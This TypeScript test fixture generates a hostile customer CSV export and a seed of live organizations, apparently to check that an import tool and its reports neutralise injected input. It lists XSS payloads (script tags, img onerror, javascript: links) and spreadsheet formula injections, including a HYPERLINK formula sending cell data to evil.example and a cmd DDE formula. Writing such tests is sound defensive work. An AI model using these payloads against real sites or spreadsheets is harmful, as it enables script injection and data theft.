/**
 * The hostile export and live seed of the injection campaign: HTML payloads
 * and spreadsheet formulas in names, addresses, ids and emails, some in
 * customers that pass validation (they reach the API, the created rows and
 * the report's tables) and some in customers validation rejects (they reach
 * rejected.csv and the report's problem list); and live organizations whose
 * own fields carry payloads. Exports: `HTML_PAYLOADS`, `FORMULA_PAYLOADS`,
 * `writeHostileExport`, `writeHostileSeed`.
 */
import { writeFileSync } from 'node:fs';
import Papa from 'papaparse';

/** Markup that would run or add an element if a page took it as HTML. */
export const HTML_PAYLOADS = [
  '<script>window.__pwned = "script"</script>',
  '"><img src=x onerror="window.__pwned = \'img\'">',
  '</td></tr></table><b id="injected">table broken</b>',
  'javascript:window.__pwned = "link"',
] as const;

/** Cells a spreadsheet would run as formulas. */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '+1+cmd',
  '-2+3',
  '@SUM(1,1)',
  '\tTAB=1+1',
  '\rCR=1+1',
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  "=cmd|' /C calc'!A0",
] as const;

const HEADER = [
  'customer_id',
  'org_name',
  'owner_external_id',
  'owner_email',
  'owner_name',
  'location_name',
  'location_address',
  'location_area_code',
];

/** The payloads that pass validation as a name or an address (no control characters). */
const VALID_FORMULAS = FORMULA_PAYLOADS.filter((payload) => !/[\t\r]/.test(payload));

/** Writes the export and returns how many customers pass and how many are rejected. */
export function writeHostileExport(path: string): { valid: number; rejected: number } {
  const rows: string[][] = [];
  HTML_PAYLOADS.forEach((payload, index) => {
    const id = `html-${index + 1}`;
    rows.push([
      id,
      `Org ${payload}`,
      `own-${id}`,
      `${id}@shop.example`,
      payload,
      `Loc ${payload}`,
      payload,
      '617',
    ]);
  });
  VALID_FORMULAS.forEach((payload, index) => {
    const id = `formula-${index + 1}`;
    // A formula leads the cell: that is where a spreadsheet looks.
    rows.push([
      id,
      payload,
      `own-${id}`,
      `${id}@shop.example`,
      payload,
      payload,
      payload,
      '617',
    ]);
  });
  const rejectedPayloads = [...HTML_PAYLOADS, ...FORMULA_PAYLOADS];
  rejectedPayloads.forEach((payload, index) => {
    const id = `rejected-${index + 1}`;
    // The email is the payload: never a valid address, so the customer is rejected.
    rows.push([id, payload, `own-${id}`, payload, payload, payload, payload, '617']);
  });
  writeFileSync(path, Papa.unparse([HEADER, ...rows], { newline: '\n' }));
  return {
    valid: HTML_PAYLOADS.length + VALID_FORMULAS.length,
    rejected: rejectedPayloads.length,
  };
}

/**
 * Live organizations no customer claims (they show as unmanaged), with
 * payloads in every field the API returns, and one the export claims by its
 * owner under another name (it shows as an update, the old name a payload).
 */
export function writeHostileSeed(path: string): void {
  const payloads: readonly string[] = [...HTML_PAYLOADS, ...VALID_FORMULAS];
  const organizations = payloads.map((payload, index) => ({
    name: payload,
    owner: {
      external_id: `live-${index + 1}`,
      email: `live-${index + 1}@x.example`,
      name: payload,
    },
    locations: [
      {
        name: payload,
        address: payload,
        phone_number: `+1617555${String(1000 + index)}`,
        status: 'active',
      },
    ],
  }));
  organizations.push({
    name: `${HTML_PAYLOADS[0]} old name`,
    owner: { external_id: 'own-html-2', email: 'html-2@shop.example', name: 'Old owner' },
    locations: [],
  });
  writeFileSync(path, JSON.stringify({ organizations }, null, 2));
}
